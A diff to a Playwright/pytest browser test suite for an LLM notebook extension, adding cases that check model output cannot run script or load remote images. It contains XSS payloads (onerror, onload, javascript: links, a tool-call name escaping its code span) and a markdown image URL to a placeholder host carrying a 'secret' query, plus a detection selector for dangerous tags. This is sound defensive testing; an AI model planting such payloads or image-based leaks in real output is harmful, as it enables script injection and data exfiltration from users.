@@ -71,6 +71,20 @@ XSS_MARKDOWN = (
     '**bold** [markdown link](javascript:window.__xss=6) <img src=x onerror="window.__xss=7"> '
     '<script>window.__xss=8</script> <a href="javascript:window.__xss=9">raw link</a>'
 )
+# A remote image must not load (the browser must not even ask for it), through
+# the streamed HTML and through a Completion's text/markdown, which also shows
+# a tool call whose name tries to leave its code span.
+REMOTE_IMAGE = "%%llm -m offline:echo\n**bold** ![leak](http://images.invalid/stream.png?q=secret)"
+TOOL_CALL = (
+    "from notebook_llm.core.types import Completion, ToolCall\n"
+    "Completion(text='![leak](http://images.invalid/md.png) ![r][r]'\n"
+    "                '\\n\\n[r]: //images.invalid/r.png',\n"
+    "           model='offline:echo', tool_calls=[ToolCall(\n"
+    "               'c1', 'f` <img src=x onerror=\"window.__xss=10\"> `',\n"
+    "               {'a': '</textarea><svg onload=window.__xss=11>'})])"
+)
+REQUESTED: list[str] = []
+"""Every URL the page asked for."""
 CELLS = {
     "setup": SETUP,
     "stream": "%%llm -m offline:echo\n{words}",
@@ -81,8 +95,15 @@ CELLS = {
     "after": "%%llm -m llamacpp:stories260k --max-tokens 5\nOnce",
     "xss_html": XSS_HTML,
     "xss_markdown": XSS_MARKDOWN,
+    "remote_image": REMOTE_IMAGE,
+    "tool_call": TOOL_CALL,
 }
 INDEX = {name: i for i, name in enumerate(CELLS)}
+DANGEROUS = """el => [...el.querySelectorAll('*')].filter(node =>
+    ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED'].includes(node.tagName)
+    || [...node.attributes].some(a => a.name.toLowerCase().startsWith('on')
+                                   || /^\\s*javascript:/i.test(a.value))
+).map(node => node.outerHTML)"""
 
 
 @pytest.fixture(scope="module")
@@ -134,6 +155,7 @@ def notebook(tmp_path_factory: pytest.TempPathFactory,
             )
             try:
                 page = context.pages[0] if context.pages else context.new_page()
+                page.on("request", lambda request: REQUESTED.append(request.url))
                 page.goto(lab.notebook_url("browser.ipynb"), timeout=60_000)
                 driver = LabNotebook(page)
                 driver.wait_ready()
@@ -262,12 +284,7 @@ def test_model_output_cannot_run_script(notebook: LabNotebook, cell: str) -> Non
     output = notebook.output(index)
     html = output.inner_html()
     assert output.locator("b, strong").count() >= 1, html  # harmless HTML still renders
-    dangerous = output.evaluate(
-        """el => [...el.querySelectorAll('*')].filter(node =>
-            ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED'].includes(node.tagName)
-            || [...node.attributes].some(a => a.name.toLowerCase().startsWith('on')
-                                           || /^\\s*javascript:/i.test(a.value))
-        ).map(node => node.outerHTML)""")
+    dangerous = output.evaluate(DANGEROUS)
     assert dangerous == [], dangerous
     for link in output.locator("a").all():
         href = link.get_attribute("href") or ""
@@ -276,6 +293,24 @@ def test_model_output_cannot_run_script(notebook: LabNotebook, cell: str) -> Non
     time.sleep(0.5)
     assert page.evaluate("window.__xss") is None
     shot(notebook, f"{cell}", cell)
+
+
+@pytest.mark.parametrize("cell", ["remote_image", "tool_call"])
+def test_model_output_loads_no_remote_image(notebook: LabNotebook, cell: str) -> None:
+    index = INDEX[cell]
+    notebook.run(index)
+    notebook.wait_done(index, timeout=30)
+    output = notebook.output(index)
+    text = output.inner_text()
+    assert "image: leak" in text, text  # a link naming the image instead
+    if cell == "tool_call":
+        assert 'onerror="window.__xss=10"' in text  # the tool call shown as text
+    assert output.evaluate(DANGEROUS) == []
+    assert output.evaluate("el => [...el.querySelectorAll('img, [srcset]')].length") == 0
+    time.sleep(0.5)
+    assert notebook.page.evaluate("window.__xss") is None
+    assert [url for url in REQUESTED if "images.invalid" in url] == []
+    shot(notebook, cell, cell)
 
 
 def test_screenshot_of_the_whole_notebook(notebook: LabNotebook) -> None:
